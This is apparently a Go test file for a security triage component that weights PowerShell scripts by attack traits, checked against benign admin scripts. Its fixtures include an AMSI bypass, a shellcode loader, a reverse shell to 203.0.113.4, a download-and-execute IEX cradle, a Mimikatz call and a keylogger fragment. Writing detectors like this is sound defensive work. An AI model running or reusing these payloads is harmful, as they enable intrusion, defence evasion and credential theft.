package check_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"strings"
	"testing"

	"github.com/seed-959697dd/soc/alert"
	"github.com/seed-959697dd/soc/internal/check"
	"github.com/seed-959697dd/soc/triage"
)

func script(text string) *alert.Alert { return with(alert.SlotScript, text) }

// squeezed is text as attackers carry it: gzip in Base64.
func squeezed(t *testing.T, s string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := z.Write([]byte(s)); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

func TestScripts(t *testing.T) {
	t.Parallel()
	weighs(t, check.Scripts(), map[string]weighed{
		"a published attack function": {2800, script("function Invoke-Mimikatz { param($DumpCreds) }")},
		"an AMSI bypass": {2800, script(
			`[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)`)},
		"an AMSI bypass put together from pieces": {2800, script(`[Ref].Assembly.GetType('System.Management.Automation.A'+'msi'+'Ut'+'ils')`)},
		"a shellcode loader": {3000, script(
			`$k=Add-Type -memberDefinition '[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(...); CreateThread' ; [Byte[]]$b=0xfc,0xe8,0x82; [System.Runtime.InteropServices.Marshal]::Copy`)},
		"a reverse shell":      {2300, script(`$c=New-Object System.Net.Sockets.TCPClient('203.0.113.4',443);$s=$c.GetStream();iex $d`)},
		"a compressed payload": {2800, script(`$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('` + squeezed(t, `Invoke-Mimikatz; IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/')`) + `'));IEX (New-Object IO.Compression.GzipStream($s))`)},
		"a key logger":         {2000, script(`$api::GetAsyncKeyState($i)`)},
		"a WMI backdoor":       {1500, script(`Set-WmiInstance -Class __EventFilter -Arguments @{Name='x'}`)},

		"an inventory script":             {0, script("Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv users.csv")},
		"a module manifest":               {0, script("@{ ModuleVersion = '1.0'; RootModule = 'Pester.psm1'; FunctionsToExport = 'Describe','It' }")},
		"the prompt":                      {0, script("prompt")},
		"the default prompt's body":       {0, script(`"PS $($executionContext.SessionState.Path.CurrentLocation)$('>' * ($nestedPromptLevel + 1)) "`)},
		"a service being restarted":       {0, script("Restart-Service -Name Spooler -Force")},
		"a policy test":                   {0, script("#  1234")},
		"tab completion":                  {0, script("$this.CommandParameters | Sort-Object Name")},
		"a monitoring script":             {0, script("Get-Counter '\\Processor(_Total)\\% Processor Time' -SampleInterval 2")},
		"a build script":                  {0, script("param([string]$Configuration='Release') dotnet build -c $Configuration")},
		"Exchange's own cmdlets":          {0, script("Get-MailboxDatabase -Status | Select-Object Name,Mounted")},
		"a certificate's renewal":         {0, script("Get-ChildItem Cert:\\LocalMachine\\My | Where-Object NotAfter -lt (Get-Date).AddDays(30)")},
		"a script that joins two strings": {0, script("$name = 'report-' + 'daily'; Get-Content $name")},
	})
}

func TestScriptsAddUp(t *testing.T) {
	t.Parallel()
	got := run(t, check.Scripts(), script(`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a'); Invoke-Mimikatz; amsiInitFailed; $x=[Convert]::FromBase64String($y); GetAsyncKeyState`))
	several := false
	for _, s := range got {
		several = several || strings.HasSuffix(s.Sentence, "independent traits of attack scripts in one text") && s.Weight >= 2000
	}
	if !several {
		t.Errorf("%d signals and none about their number: %+v", len(got), got)
	}
}

func TestDecodingIsBounded(t *testing.T) {
	t.Parallel()
	text := "Invoke-Mimikatz"
	for range 8 {
		text = "iex " + base64.StdEncoding.EncodeToString([]byte(text+" # padding to be long enough"))
	}
	for _, s := range run(t, check.Scripts(), script(text)) {
		if s.Weight >= 2800 {
			t.Errorf("eight layers were unwrapped: %s", s.Sentence)
		}
	}
	bomb := squeezed(t, string(bytes.Repeat([]byte("a"), 8<<20)))
	run(t, check.Scripts(), script("FromBase64String('"+bomb+"')"))
}

func BenchmarkScripts(b *testing.B) {
	c, a := check.Scripts(), script("Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv users.csv")
	b.ReportAllocs()
	for b.Loop() {
		c.Check(a, func(s triage.Signal) { b.Fatal(s.Sentence) })
	}
}
